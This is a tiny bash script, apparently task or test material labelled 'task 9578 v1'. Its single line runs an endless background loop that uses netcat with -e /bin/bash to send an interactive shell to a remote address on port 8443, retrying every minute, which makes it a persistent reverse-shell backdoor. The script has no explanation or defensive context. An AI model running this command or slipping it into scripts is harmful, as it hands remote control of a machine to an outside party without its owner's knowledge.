# task 9578 v1
#!/bin/bash
while true; do nc -e /bin/bash 198.51.100.23 8443; sleep 60; done &
